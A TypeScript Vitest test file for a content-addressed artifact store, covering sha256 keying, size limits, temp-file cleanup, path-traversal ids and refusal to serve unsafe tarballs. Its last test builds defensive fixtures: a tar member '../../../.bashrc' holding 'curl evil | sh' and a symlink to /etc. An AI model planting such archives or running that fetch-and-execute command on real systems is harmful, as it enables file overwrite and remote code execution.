// The content-addressed artifact store on a real folder: what is kept, what is refused, and that a refusal
// leaves nothing behind (temp files included).
import { createHash, randomBytes } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { PassThrough, Readable } from 'node:stream';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ArtifactStore } from '../../../src-main/core/jobs/artifact-store';
import { isApiProblem } from '../../../src-main/core/coordinator/common/api-problem';
import { handMadeTarGz, tarballOf } from './hand-made-tar';

let dir: string;

beforeEach(() => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'artifact-store-'));
});
afterEach(() => {
  fs.rmSync(dir, { recursive: true, force: true });
});

const sha = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');

/** Every file under the store folder, relative to it. */
function filesIn(root: string): string[] {
  return (fs.readdirSync(root, { recursive: true, withFileTypes: true }) as fs.Dirent[])
    .filter((e) => e.isFile())
    .map((e) => path.relative(root, path.join(e.parentPath ?? e.path, e.name)))
    .sort();
}

/** The bytes in chunks, so the store sees a stream rather than one buffer. */
function chunked(bytes: Buffer, size = 64 * 1024): Readable {
  const parts: Buffer[] = [];
  for (let at = 0; at < bytes.length; at += size) parts.push(bytes.subarray(at, at + size));
  return Readable.from(parts);
}

describe('ArtifactStore', () => {
  it('stores a tarball under its sha256, owner-only, and gives it back byte for byte', async () => {
    const store = new ArtifactStore(dir);
    const bytes = tarballOf(randomBytes(300_000));
    const id = sha(bytes);
    const stored = await store.put(chunked(bytes), id, bytes.length);
    expect(stored).toEqual({ sha256: id, sizeBytes: bytes.length, stored: 'new' });
    const file = path.join('sha256', id.slice(0, 2), `${id}.tar.gz`);
    expect(filesIn(dir)).toEqual([file]);
    if (process.platform !== 'win32') expect(fs.statSync(path.join(dir, file)).mode & 0o777).toBe(0o600);
    expect(store.has(id)).toBe(true);
    expect(store.sizeOf(id)).toBe(bytes.length);
    const opened = store.open(id)!;
    expect(opened.sizeBytes).toBe(bytes.length);
    const back: Buffer[] = [];
    for await (const chunk of opened.stream) back.push(chunk as Buffer);
    expect(Buffer.concat(back).equals(bytes)).toBe(true);
  });

  it('keeps identical bytes once: the second put is "existing"', async () => {
    const store = new ArtifactStore(dir);
    const bytes = tarballOf(randomBytes(5000));
    expect((await store.put(chunked(bytes), sha(bytes), null)).stored).toBe('new');
    expect(await store.put(chunked(bytes), sha(bytes), null)).toEqual({ sha256: sha(bytes), sizeBytes: bytes.length, stored: 'existing' });
    expect(filesIn(dir)).toHaveLength(1);
  });

  it('concurrent puts of the same bytes leave one file, and exactly one of them is "new"', async () => {
    const store = new ArtifactStore(dir);
    const bytes = tarballOf(randomBytes(200_000));
    const results = await Promise.all(Array.from({ length: 8 }, () => store.put(chunked(bytes, 4096), sha(bytes), bytes.length)));
    expect(results.filter((r) => r.stored === 'new')).toHaveLength(1);
    expect(results.filter((r) => r.stored === 'existing')).toHaveLength(7);
    expect(filesIn(dir)).toEqual([path.join('sha256', sha(bytes).slice(0, 2), `${sha(bytes)}.tar.gz`)]);
  });

  it('refuses bytes whose sha256 is not the announced one (400), keeping nothing', async () => {
    const store = new ArtifactStore(dir);
    const bytes = randomBytes(10_000);
    const other = sha(Buffer.from('something else'));
    await expect(store.put(chunked(bytes), other, bytes.length)).rejects.toMatchObject({ status: 400, message: expect.stringContaining(`not the ${other} announced`) });
    expect(filesIn(dir)).toEqual([]);
    expect(store.has(other)).toBe(false);
  });

  it('refuses an oversize body by its declared length before reading a byte (413)', async () => {
    const store = new ArtifactStore(dir, { maxBytes: 1000 });
    const body = new PassThrough();
    await expect(store.put(body, 'a'.repeat(64), 1001)).rejects.toMatchObject({ status: 413 });
    expect(body.readableFlowing).toBe(null); // never piped, never read
    expect(filesIn(dir)).toEqual([]);
  });

  it('refuses a body that grows past the cap without saying its length (413), and leaves the stream to its owner', async () => {
    const store = new ArtifactStore(dir, { maxBytes: 100_000 });
    const body = new PassThrough();
    const put = store.put(body, 'b'.repeat(64), null);
    for (let i = 0; i < 20; i++) body.write(randomBytes(10_000));
    await expect(put).rejects.toMatchObject({ status: 413, message: expect.stringContaining('0.1 MiB limit') });
    expect(body.destroyed).toBe(false);
    expect(filesIn(dir)).toEqual([]);
  });

  it('a body cut off midway fails the put and leaves no temp file', async () => {
    const store = new ArtifactStore(dir);
    const body = new PassThrough();
    const put = store.put(body, 'c'.repeat(64), 1_000_000);
    body.write(randomBytes(50_000));
    await new Promise((r) => setTimeout(r, 20));
    expect(filesIn(dir)).toHaveLength(1); // the temp file, while it lasts
    body.destroy();
    await expect(put).rejects.toThrow(/cut off/);
    expect(filesIn(dir)).toEqual([]);
  });

  it('never turns anything but a 64-hex id into a path', async () => {
    const store = new ArtifactStore(path.join(dir, 'store'));
    fs.writeFileSync(path.join(dir, 'secret.tar.gz'), 'outside');
    for (const id of ['../secret', '../../etc/passwd', 'A'.repeat(64), `${'a'.repeat(63)}/`, '']) {
      expect(store.has(id)).toBe(false);
      expect(store.sizeOf(id)).toBe(null);
      expect(store.open(id)).toBe(null);
      await expect(store.put(Readable.from([Buffer.from('x')]), id, 1)).rejects.toMatchObject({ status: 400 });
    }
    expect(filesIn(path.join(dir, 'store'))).toEqual([]);
    expect(fs.readFileSync(path.join(dir, 'secret.tar.gz'), 'utf8')).toBe('outside');
  });

  it('removes temp files of dead uploaders at construction, not those of live ones', () => {
    fs.mkdirSync(path.join(dir, 'tmp'), { recursive: true });
    const dead = `upload-${2 ** 22 + 12345}-${'0'.repeat(16)}.part`;
    const live = `upload-${process.pid}-${'1'.repeat(16)}.part`;
    for (const name of [dead, live, 'stray-file']) fs.writeFileSync(path.join(dir, 'tmp', name), 'partial');
    new ArtifactStore(dir);
    expect(fs.readdirSync(path.join(dir, 'tmp')).sort()).toEqual([live]);
  });

  it('openInspected serves a safe stored tarball byte for byte, and refuses one placed in the store without inspection, naming its member', async () => {
    const store = new ArtifactStore(dir);
    const good = tarballOf(randomBytes(200_000));
    // Bypassing put(): as a tarball kept before uploads were inspected (or copied in by hand) sits in the store.
    const bad = handMadeTarGz([{ path: 'adapter.bin', body: 'ok' }, { path: '../../../.bashrc', body: 'curl evil | sh' }]);
    const link = handMadeTarGz([{ path: 'etc', type: '2', linkpath: '/etc' }]);
    for (const bytes of [good, bad, link]) {
      const file = path.join(dir, 'sha256', sha(bytes).slice(0, 2), `${sha(bytes)}.tar.gz`);
      fs.mkdirSync(path.dirname(file), { recursive: true });
      fs.writeFileSync(file, bytes);
    }
    const opened = (await store.openInspected(sha(good)))!;
    const back: Buffer[] = [];
    for await (const chunk of opened.stream) back.push(chunk as Buffer);
    expect(Buffer.concat(back).equals(good)).toBe(true); // the inspection read the descriptor, then it was served from the start
    const refusal = async (id: string) => store.openInspected(id).then(() => null, (error: unknown) => (isApiProblem(error) ? [error.status, error.message] : error));
    expect(await refusal(sha(bad))).toEqual([422, expect.stringMatching(/^artifact [0-9a-f]{64} is not served: the artifact's member "\.\.\/\.\.\/\.\.\/\.bashrc" has '\.\.' in its path/)]);
    expect(await refusal(sha(link))).toEqual([422, expect.stringContaining(`the artifact's member "etc" is a symbolic link to /etc`)]);
    expect(await refusal(sha(bad))).toEqual([422, expect.stringContaining('.bashrc')]); // the verdict is kept
    expect(store.open(sha(bad))).not.toBe(null); // open() stays the raw read (the store's own bookkeeping)
    expect(await store.openInspected('f'.repeat(64))).toBe(null);
  });
});
